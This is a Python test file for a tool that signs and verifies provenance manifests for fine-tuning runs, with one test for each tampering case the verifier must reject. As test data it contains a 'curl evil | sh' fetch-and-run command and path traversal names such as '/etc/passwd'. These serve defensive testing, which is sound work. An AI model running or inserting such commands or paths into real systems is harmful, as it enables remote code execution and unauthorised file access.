"""Signed manifests: attest, verify, audit, show, log; every tamper case a verifier must reject."""

from __future__ import annotations

import base64
import json
import os
import shutil
import sys
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey, Ed25519PublicKey

from ftctl.canonical import canonical_json
from ftctl.errors import FtctlError
from ftctl.provenance import dsse
from ftctl.provenance.keys import keyid, trusted_keys
from ftctl.provenance.manifest import ManifestError, verify_artifacts, verify_bytes, verify_file
from tests.conftest import LOCAL_RECIPE, REPO, RunCLI, git, invoke_cli, json_object, write
from tests.rundirs import finished_run


def make_run(root: Path, name: str = "run", weights: str = "weights") -> Path:
    """A finished run of recipe ``tiny`` from its lock, as the worker leaves one."""
    times = {"started_at": "2026-11-24T22:00:00Z", "finished_at": "2026-11-24T22:01:00Z"}
    result = {**times, "metrics": {"train_loss": 1.5}}
    return finished_run(root, root / name, "tiny", weights=weights, result=result)


@dataclass(frozen=True)
class Attested:
    """A git workspace with one attested run: the manifest, its run directory and the key."""

    root: Path
    home: Path  # XDG_CONFIG_HOME, where keygen wrote the private key
    manifest: Path
    run: Path
    key: Ed25519PrivateKey

    @property
    def key_path(self) -> Path:
        return self.home / "ftctl" / "keys" / "ci.key"

    @property
    def trusted(self) -> dict[str, Ed25519PublicKey]:
        return dict(trusted_keys(self.root, ["keys/*.pub"]))

    def envelope(self) -> dict[str, Any]:
        """The manifest's envelope, parsed afresh on each call: change it freely."""
        return json_object(self.manifest.read_bytes())

    def statement(self) -> dict[str, Any]:
        return json_object(base64.b64decode(self.envelope()["payload"]))


def snapshot(directory: Path) -> dict[str, bytes]:
    files = (p for p in directory.rglob("*") if p.is_file())
    return {p.relative_to(directory).as_posix(): p.read_bytes() for p in files}


@pytest.fixture(scope="module")
def signed(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Attested]:
    """One workspace locked, committed and attested once for the module. Never write to it:
    tests that change files use ``attested`` (a copy) or copy what they change to tmp_path."""
    base = tmp_path_factory.mktemp("signed")
    root, home = base / "ws", base / "home"
    write(root / "models" / "tiny" / "config.json", "{}\n")
    write(root / "data" / "train.jsonl", '{"instruction": "a", "output": "b"}\n')
    write(root / "recipes" / "tiny.yaml", LOCAL_RECIPE)
    git(root, "init", "-q")
    env = {"XDG_CONFIG_HOME": str(home)}
    assert invoke_cli("lock", cwd=root, env=env).code == 0
    assert invoke_cli("keygen", "ci", cwd=root, env=env).code == 0
    git(root, "add", "-A")
    git(root, "commit", "-qm", "recipes")
    key_path = home / "ftctl" / "keys" / "ci.key"
    run = make_run(root)
    signing = {**env, "FTCTL_SIGNING_KEY": str(key_path)}
    result = invoke_cli("attest", "run", "--recipe", "tiny", cwd=root, env=signing)
    assert result.code == 0, result.err
    key = serialization.load_pem_private_key(key_path.read_bytes(), None)
    assert isinstance(key, Ed25519PrivateKey)
    before = snapshot(root)
    yield Attested(root, home, root / result.out.strip(), run, key)
    assert snapshot(root) == before, "a test changed the shared signed workspace"


@pytest.fixture
def attested(signed: Attested, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Attested:
    """A private copy of the signed workspace and key home, with the environment attest reads."""
    root, home = tmp_path / "ws", tmp_path / "home"
    shutil.copytree(signed.root, root, symlinks=True)
    shutil.copytree(signed.home, home)
    copy = Attested(
        root,
        home,
        root / signed.manifest.relative_to(signed.root),
        root / signed.run.relative_to(signed.root),
        signed.key,
    )
    monkeypatch.setenv("XDG_CONFIG_HOME", str(home))
    monkeypatch.setenv("FTCTL_SIGNING_KEY", str(copy.key_path))
    return copy


@pytest.fixture
def adapter(signed: Attested, tmp_path: Path) -> Path:
    """A copy of the signed run's adapter directory, to tamper with."""
    return Path(shutil.copytree(signed.run / "adapter", tmp_path / "adapter", symlinks=True))


def resign(
    att: Attested, statement: dict[str, Any] | bytes, key: Ed25519PrivateKey | None = None
) -> bytes:
    body = statement if isinstance(statement, bytes) else canonical_json(statement)
    return dsse.sign(body, key or att.key)


def rejects(att: Attested, data: bytes, fragment: str, threshold: int = 1) -> None:
    with pytest.raises(ManifestError) as info:
        verify_bytes(data, att.trusted, Path("m.intoto.json"), threshold)
    assert fragment in str(info.value), str(info.value)


# --- the happy path ------------------------------------------------------------------


def test_attest_verify_show_log_audit(attested: Attested, run_cli: RunCLI) -> None:
    root, rel = attested.root, str(attested.manifest.relative_to(attested.root))
    assert rel.startswith("manifests/tiny/20261124T220100Z-") and rel.endswith(".intoto.json")
    ok = run_cli("verify", rel, "--artifacts", "run/adapter", cwd=root)
    assert ok.code == 0 and ok.out.startswith(f"OK {rel}: recipe tiny, fingerprint ")
    payload = json.loads(run_cli("verify", rel, "--json", cwd=root).out)
    assert payload["ok"] is True and payload["recipe"] == "tiny"
    assert set(payload["subjects"]) == {"adapter_model.safetensors", "adapter_config.json"}
    shown = run_cli("show", rel, cwd=root).out
    assert "fingerprint  sha256:" in shown and "train_loss: 1.5" in shown
    assert "first run  [train_loss=1.5]" in run_cli("log", "tiny", cwd=root).out
    git(root, "add", "-A")
    git(root, "commit", "-qm", "manifest")
    audit = run_cli("audit", cwd=root)
    assert audit.code == 0, audit.out
    assert audit.lines[-1] == "1 manifest, 0 failed"


def test_statement_shape(signed: Attested) -> None:
    st = signed.statement()
    assert st["_type"] == "https://in-toto.io/Statement/v1"
    assert st["predicateType"] == "https://slsa.dev/provenance/v1"
    definition = st["predicate"]["buildDefinition"]
    assert definition["externalParameters"]["seed"] == "42"  # seeds as strings
    names = [d["name"] for d in definition["resolvedDependencies"]]
    assert names == ["base_model", "datasets[0]", "pins", "recipe_repository", "ftctl"]
    lock = (signed.root / "lockfiles" / "tiny.lock").read_text()
    assert definition["internalParameters"]["fingerprint"] in lock
    assert signed.envelope()["payloadType"] == "application/vnd.in-toto+json"


def test_securesystemslib_accepts_ours_and_rejects_tampered(signed: Attested) -> None:
    from securesystemslib.dsse import Envelope
    from securesystemslib.exceptions import VerificationError

    # securesystemslib.signer re-exports SSlibKey without __all__, which strict mypy refuses
    from securesystemslib.signer import SSlibKey  # type: ignore[attr-defined]

    public = signed.key.public_key()
    oracle_key = SSlibKey.from_crypto(public, keyid=keyid(public))
    envelope = Envelope.from_dict(signed.envelope())
    assert keyid(public) in envelope.verify([oracle_key], 1)
    tampered = signed.envelope()
    body = base64.b64decode(tampered["payload"]).replace(b'"seed":"42"', b'"seed":"43"')
    tampered["payload"] = base64.b64encode(body).decode()
    with pytest.raises(VerificationError):
        Envelope.from_dict(tampered).verify([oracle_key], 1)


# --- what a verifier must reject, one test each --------------------------


def mutate_envelope(att: Attested, change: Callable[[dict[str, Any]], object]) -> bytes:
    envelope = att.envelope()
    change(envelope)
    return json.dumps(envelope).encode()


def test_reject_other_payload_type(signed: Attested) -> None:
    rejects(
        signed,
        dsse.sign(canonical_json(signed.statement()), signed.key, "application/json"),
        "payloadType is 'application/json'",
    )


def test_reject_payload_type_changed_after_signing(signed: Attested) -> None:
    data = mutate_envelope(
        signed, lambda e: e.update(payloadType="application/vnd.in-toto+json; x=1")
    )
    rejects(signed, data, "payloadType")


def test_reject_missing_envelope_field(signed: Attested) -> None:
    rejects(signed, mutate_envelope(signed, lambda e: e.pop("signatures")), "not a DSSE envelope")


def test_reject_missing_statement_field(signed: Attested) -> None:
    st = signed.statement()
    del st["subject"]
    rejects(signed, resign(signed, st), "subject")


def test_reject_altered_payload(signed: Attested) -> None:
    def alter(e: dict[str, Any]) -> None:
        body = base64.b64decode(e["payload"]).replace(b'"seed":"42"', b'"seed":"41"')
        e["payload"] = base64.b64encode(body).decode()

    rejects(signed, mutate_envelope(signed, alter), "no signature by a trusted key")


def test_reject_truncated_payload(signed: Attested) -> None:
    def cut(e: dict[str, Any]) -> None:
        e["payload"] = base64.b64encode(base64.b64decode(e["payload"])[:-10]).decode()

    rejects(signed, mutate_envelope(signed, cut), "no signature by a trusted key")


def test_reject_extended_payload(signed: Attested) -> None:
    def extend(e: dict[str, Any]) -> None:
        e["payload"] = base64.b64encode(base64.b64decode(e["payload"]) + b" ").decode()

    rejects(signed, mutate_envelope(signed, extend), "no signature by a trusted key")


def test_reject_invalid_base64(signed: Attested) -> None:
    rejects(
        signed,
        mutate_envelope(signed, lambda e: e.update(payload="not*base64")),
        "not valid base64",
    )


def test_reject_untrusted_key(signed: Attested) -> None:
    rejects(
        signed,
        resign(signed, signed.statement(), Ed25519PrivateKey.generate()),
        "no signature by a trusted key",
    )


def test_reject_spoofed_keyid(signed: Attested) -> None:
    data = json.loads(resign(signed, signed.statement(), Ed25519PrivateKey.generate()))
    data["signatures"][0]["keyid"] = keyid(signed.key.public_key())  # claims to be the trusted key
    rejects(signed, json.dumps(data).encode(), "no signature by a trusted key")


def test_reject_same_key_counted_twice(signed: Attested) -> None:
    data = json.loads(resign(signed, signed.statement()))
    data["signatures"] = data["signatures"] * 2
    rejects(signed, json.dumps(data).encode(), "1 trusted signature(s), 2 required", threshold=2)


def test_reject_no_signatures(signed: Attested) -> None:
    rejects(signed, mutate_envelope(signed, lambda e: e.update(signatures=[])), "has no signatures")


def test_reject_wrong_statement_type(signed: Attested) -> None:
    st = signed.statement()
    st["_type"] = "https://in-toto.io/Statement/v0.1"
    rejects(signed, resign(signed, st), "_type")


def test_reject_wrong_predicate_type(signed: Attested) -> None:
    st = signed.statement()
    st["predicateType"] = "https://slsa.dev/provenance/v0.2"
    rejects(signed, resign(signed, st), "predicateType")


def test_reject_duplicate_keys_in_signed_payload(signed: Attested) -> None:
    body = canonical_json(signed.statement())
    doubled = body.replace(b'"_type":', b'"_type":"x","_type":', 1)
    rejects(signed, resign(signed, doubled), "duplicate key '_type'")


def test_reject_duplicate_keys_in_envelope(signed: Attested) -> None:
    data = signed.manifest.read_bytes().replace(
        b'"payloadType":', b'"payloadType":"x","payloadType":', 1
    )
    rejects(signed, data, "duplicate key 'payloadType'")


def test_reject_nan(signed: Attested) -> None:
    body = canonical_json(signed.statement()).replace(b'"seed":"42"', b'"seed":NaN', 1)
    rejects(signed, resign(signed, body), "NaN is not allowed")


@pytest.mark.parametrize(
    ("name", "fragment"),
    [
        ("/etc/passwd", "is absolute"),
        ("../outside", "'..' segment"),
        ("sub\\evil", "backslash"),
        ("a\x00b", "NUL"),
        ("C:/x", "is absolute"),
    ],
    ids=["absolute", "dotdot", "backslash", "nul", "drive"],
)
def test_reject_bad_subject_names(signed: Attested, name: str, fragment: str) -> None:
    st = signed.statement()
    st["subject"][0]["name"] = name
    rejects(signed, resign(signed, st), fragment)


def test_reject_repeated_subject(signed: Attested) -> None:
    st = signed.statement()
    st["subject"] = st["subject"] * 2
    rejects(signed, resign(signed, st), "subject names repeat")


def test_reject_non_sha256_digest(signed: Attested) -> None:
    st = signed.statement()
    st["subject"][0]["digest"] = {"sha1": "0" * 40}
    rejects(signed, resign(signed, st), "exactly {sha256")


def test_reject_short_base_model_commit(signed: Attested) -> None:
    st = signed.statement()
    deps = st["predicate"]["buildDefinition"]["resolvedDependencies"]
    deps[0] = {
        "name": "base_model",
        "uri": "pkg:huggingface/org/m@main",
        "digest": {"gitCommit": "main"},
    }
    rejects(signed, resign(signed, st), "is not a full 40-hex commit")


def test_reject_hub_dependency_without_commit(signed: Attested) -> None:
    st = signed.statement()
    deps = st["predicate"]["buildDefinition"]["resolvedDependencies"]
    deps[0] = {
        "name": "base_model",
        "uri": "pkg:huggingface/org/m@main",
        "digest": {"sha256": "0" * 64},
    }
    rejects(signed, resign(signed, st), "needs a full gitCommit digest")


def test_reject_unexpected_external_parameters(signed: Attested) -> None:
    st = signed.statement()
    st["predicate"]["buildDefinition"]["externalParameters"]["command"] = "curl evil | sh"
    rejects(signed, resign(signed, st), "externalParameters.command")


def artifacts_reject(att: Attested, adapter: Path, fragment: str) -> None:
    manifest = verify_file(att.manifest, att.trusted)
    with pytest.raises(ManifestError) as info:
        verify_artifacts(manifest, adapter)
    assert fragment in str(info.value)


def test_reject_file_content_differs(signed: Attested, adapter: Path) -> None:
    (adapter / "adapter_model.safetensors").write_text("other weights")
    artifacts_reject(signed, adapter, "adapter_model.safetensors differs from the recorded digest")


def test_reject_missing_file(signed: Attested, adapter: Path) -> None:
    (adapter / "adapter_config.json").unlink()
    artifacts_reject(signed, adapter, "adapter_config.json is missing")


def test_reject_extra_file(signed: Attested, adapter: Path) -> None:
    (adapter / "optimizer.pkl").write_bytes(b"\x80\x04evil")
    artifacts_reject(signed, adapter, "optimizer.pkl is not in the manifest")


def test_reject_symlink_leaving_the_directory(
    signed: Attested, adapter: Path, tmp_path: Path
) -> None:
    (tmp_path / "outside.bin").write_text("x")
    (adapter / "link.bin").symlink_to(tmp_path / "outside.bin")
    artifacts_reject(signed, adapter, "is a symlink to")


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="/proc is Linux's")
def test_artifacts_in_a_system_tree_are_named_with_what_they_are(
    attested: Attested, run_cli: RunCLI
) -> None:
    real = Path("/proc/self").resolve()
    shown = f"/proc/self is under /proc ({real}): kernel files"
    artifacts_reject(attested, Path("/proc/self"), shown)
    rel = str(attested.manifest.relative_to(attested.root))
    result = run_cli("verify", rel, "--artifacts", "/proc/self", cwd=attested.root)
    assert result.code == 1
    assert "/proc/self is under /proc" in result.out + result.err  # not "Invalid argument" alone


def test_a_trusted_key_file_symlinked_out_of_the_workspace_is_refused(
    signed: Attested, tmp_path: Path
) -> None:
    root = tmp_path / "ws"
    shutil.copytree(signed.root / "keys", root / "keys")
    (tmp_path / "outside.pem").write_bytes((root / "keys" / "ci.pub").read_bytes())
    (root / "keys" / "other.pub").symlink_to(tmp_path / "outside.pem")
    with pytest.raises(FtctlError) as info:
        trusted_keys(root, ["keys/*.pub"])
    assert str(info.value).startswith("keys/other.pub: the key file leads outside the workspace;")
    assert str(tmp_path) not in str(info.value)  # named as the workspace has it
    (root / "keys" / "other.pub").unlink()
    (root / "keys" / "same.pub").symlink_to("ci.pub")  # a symlink inside is the file it names
    assert len(trusted_keys(root, ["keys/*.pub"])) == 1


def test_reject_files_from_two_runs(signed: Attested, adapter: Path, tmp_path: Path) -> None:
    other = tmp_path / "other"  # another run's weights
    write(other / "adapter" / "adapter_model.safetensors", "other weights")
    (adapter / "adapter_model.safetensors").write_bytes(
        (other / "adapter" / "adapter_model.safetensors").read_bytes()
    )
    artifacts_reject(signed, adapter, "adapter_model.safetensors differs")


def test_reject_provenance_copy_of_another_artifact(signed: Attested, adapter: Path) -> None:
    copy = adapter / ".ftctl" / "provenance.intoto.json"
    st = signed.statement()
    st["predicate"]["buildDefinition"]["internalParameters"]["fingerprint"] = "sha256:" + "7" * 64
    write(copy, resign(signed, st).decode())
    artifacts_reject(signed, adapter, "records another artifact")


def test_provenance_copy_before_publication_is_accepted(signed: Attested, adapter: Path) -> None:
    # The registry's copy is signed before the Hub commit it lands in is known: it lacks the
    # "published" byproduct the repository's manifest has, and records the same artifact.
    copy = adapter / ".ftctl" / "provenance.intoto.json"
    st = signed.statement()
    st["predicate"]["runDetails"]["byproducts"] = []
    write(copy, resign(signed, st).decode())
    verify_artifacts(verify_file(signed.manifest, signed.trusted), adapter)


def test_registry_copy_of_the_same_run_is_accepted(signed: Attested, adapter: Path) -> None:
    write(adapter / ".ftctl" / "provenance.intoto.json", signed.manifest.read_text())
    verify_artifacts(verify_file(signed.manifest, signed.trusted), adapter)


def test_audit_rejects_recipe_that_differs_from_the_record(
    attested: Attested, run_cli: RunCLI
) -> None:
    git(attested.root, "add", "-A")
    git(attested.root, "commit", "-qm", "manifest")
    st = attested.statement()
    st["predicate"]["buildDefinition"]["externalParameters"]["recipe"]["digest"]["sha256"] = (
        "0" * 64
    )
    attested.manifest.write_bytes(resign(attested, st))
    result = run_cli("audit", cwd=attested.root)
    assert result.code == 1
    assert (
        "FAIL: the recipe bytes at" in result.out
        and "differ from the recorded digest" in result.out
    )


def test_audit_fails_uncommitted_attestation(attested: Attested, run_cli: RunCLI) -> None:
    write(attested.root / "recipes" / "tiny.yaml", LOCAL_RECIPE + "seed: 7\n")
    run_cli("lock", cwd=attested.root)
    finished_run(
        attested.root, attested.root / "run7", "tiny", minute=7
    )  # trained from the new lock
    result = run_cli("attest", "run7", "--recipe", "tiny", cwd=attested.root)
    assert "not committed; `ftctl audit` will fail this manifest" in result.err
    audit = run_cli("audit", "--json", cwd=attested.root)
    rows = json.loads(audit.out)
    assert audit.code == 1
    assert any(r["reason"] == "attested from uncommitted recipe or lock files" for r in rows)


def test_tampered_manifest_is_not_state(attested: Attested, run_cli: RunCLI) -> None:
    from ftctl.provenance.records import read_records

    good = read_records(attested.root, lambda: attested.trusted)["tiny"]
    assert good.current is not None and not good.rejected
    data = attested.manifest.read_bytes().replace(b'"sig":"', b'"sig":"AAAA', 1)
    attested.manifest.write_bytes(data)
    state = read_records(attested.root, lambda: attested.trusted)["tiny"]
    assert state.current is None
    assert state.rejected and "REJECTED" in run_cli("log", "tiny", cwd=attested.root).out


def test_verify_failure_is_one_line(attested: Attested, run_cli: RunCLI) -> None:
    attested.manifest.write_bytes(attested.manifest.read_bytes()[:-40])
    result = run_cli("verify", str(attested.manifest), cwd=attested.root)
    assert result.code == 1
    assert result.err.startswith("FAILED ") and result.err.count("\n") == 1
    as_json = json.loads(run_cli("verify", str(attested.manifest), "--json", cwd=attested.root).out)
    assert as_json["ok"] is False and "not valid JSON" in as_json["reason"]


# --- keys and attest errors -----------------------------------------------------


def test_keygen_refuses_the_repository(tmp_path: Path, run_cli: RunCLI) -> None:
    (tmp_path / ".git").mkdir()
    result = run_cli("keygen", "ci", "--out", str(tmp_path / "ci.key"), cwd=tmp_path)
    assert result.code == 1
    assert "refusing to write a private key inside a git work tree" in result.err


def test_keygen_refuses_any_git_work_tree(tmp_path: Path, run_cli: RunCLI) -> None:
    workspace, other = tmp_path / "ws", tmp_path / "other"
    (workspace / ".git").mkdir(parents=True)
    (other / ".git").mkdir(parents=True)  # a second repository, next to the workspace
    result = run_cli("keygen", "ci", "--out", str(other / "sub" / "ci.key"), cwd=workspace)
    assert result.code == 1
    assert result.err.splitlines() == [
        f"ftctl: error: refusing to write a private key inside a git work tree ({other}); "
        "choose --out outside any repository; the default is ~/.config/ftctl/keys/"
    ]
    assert not (other / "sub").exists() and not (workspace / "keys").exists()


def test_a_passphrase_in_any_encoding_signs(
    tmp_path: Path, run_cli: RunCLI, monkeypatch: pytest.MonkeyPatch
) -> None:
    from ftctl.provenance.keys import signing_key_from_env

    (tmp_path / "ws" / ".git").mkdir(parents=True)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "home"))
    monkeypatch.setitem(os.environb, b"FTCTL_SIGNING_KEY_PASSPHRASE", b"caf\xe9-not-utf8")
    assert run_cli("keygen", "latin", cwd=tmp_path / "ws").code == 0
    monkeypatch.setenv("FTCTL_SIGNING_KEY", str(tmp_path / "home" / "ftctl" / "keys" / "latin.key"))
    assert signing_key_from_env().public_key() is not None


def test_keygen_private_key_mode(signed: Attested) -> None:
    assert signed.key_path.stat().st_mode & 0o777 == 0o600
    assert (signed.root / "keys" / "ci.pub").read_text().startswith("-----BEGIN PUBLIC KEY-----")


def test_passphrase_protected_key(
    attested: Attested, tmp_path: Path, run_cli: RunCLI, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("FTCTL_SIGNING_KEY_PASSPHRASE", "s3cret")
    assert (
        run_cli("keygen", "locked", "--out", str(tmp_path / "locked.key"), cwd=attested.root).code
        == 0
    )
    monkeypatch.setenv("FTCTL_SIGNING_KEY", str(tmp_path / "locked.key"))
    finished_run(attested.root, attested.root / "run5", "tiny", minute=5)
    assert run_cli("attest", "run5", "--recipe", "tiny", cwd=attested.root).code == 0
    monkeypatch.setenv("FTCTL_SIGNING_KEY_PASSPHRASE", "wrong")
    finished_run(attested.root, attested.root / "run6", "tiny", minute=6)
    result = run_cli("attest", "run6", "--recipe", "tiny", cwd=attested.root)
    assert result.code == 1 and "wrong passphrase" in result.err


def test_attest_needs_a_key(
    attested: Attested, run_cli: RunCLI, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("FTCTL_SIGNING_KEY")
    result = run_cli("attest", "run", "--recipe", "tiny", cwd=attested.root)
    assert result.err.startswith("ftctl: error: no signing key: FTCTL_SIGNING_KEY is not set")


def test_attest_refuses_a_stale_lock(attested: Attested, run_cli: RunCLI) -> None:
    write(attested.root / "recipes" / "tiny.yaml", LOCAL_RECIPE + "lora_r: 4\n")
    result = run_cli("attest", "run", "--recipe", "tiny", cwd=attested.root)
    assert result.code == 1 and "lockfiles/tiny.lock is stale" in result.err


def test_attest_refuses_another_runs_fingerprint(attested: Attested, run_cli: RunCLI) -> None:
    result_file = attested.run / "result.json"
    data = json.loads(result_file.read_text())
    data["trained"]["fingerprint"] = "sha256:" + "0" * 64
    result_file.write_text(json.dumps(data))
    result = run_cli("attest", "run", "--recipe", "tiny", cwd=attested.root)
    assert (
        result.code == 1 and "run trained fingerprint 000000000000, but recipe tiny" in result.err
    )


def test_attest_unfinished_run(attested: Attested, run_cli: RunCLI) -> None:
    (attested.run / "result.json").write_text('{"started_at": "2026-11-24T22:00:00Z"}')
    result = run_cli("attest", "run", "--recipe", "tiny", cwd=attested.root)
    assert "finished_at is missing; an unfinished run cannot be attested" in result.err


def test_secrets_never_leak(
    attested: Attested, run_cli: RunCLI, monkeypatch: pytest.MonkeyPatch
) -> None:
    token = "hf_PLANTEDTOKEN0123456789"
    pem = attested.key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    ).decode()
    monkeypatch.setenv("HF_TOKEN", token)
    monkeypatch.setenv("FTCTL_SIGNING_KEY", pem)  # key material in the environment itself
    (attested.run / "environment.json").write_text(
        json.dumps({"python": "3.11", "HF_TOKEN": token, "env": dict(os.environ)})
    )
    outputs = []
    for args in (
        ["attest", "run", "--recipe", "tiny"],
        ["attest", "run", "--recipe", "nope"],
        ["verify", str(attested.manifest)],
        ["audit"],
        ["log", "tiny"],
    ):
        result = run_cli(*args, cwd=attested.root)
        outputs.append(result.out + result.err)
    monkeypatch.setenv(
        "FTCTL_SIGNING_KEY", pem.replace("A", "B", 3)
    )  # a broken key: the error must not echo it
    broken = run_cli("attest", "run", "--recipe", "tiny", cwd=attested.root)
    outputs.append(broken.out + broken.err)
    manifests = [p.read_text() for p in (attested.root / "manifests").rglob("*.json")]
    secret_key_body = pem.splitlines()[1]
    for text in outputs + manifests:
        assert token not in text
        assert secret_key_body not in text and "PRIVATE KEY" not in text


def test_schema_accepts_an_attested_statement(signed: Attested) -> None:
    import jsonschema  # type: ignore[import-untyped]  # jsonschema ships no type hints

    schema = json.loads((REPO / "docs" / "provenance.schema.json").read_text())
    statement = json.loads(base64.b64decode(signed.envelope()["payload"]))
    jsonschema.Draft202012Validator(schema).validate(statement)
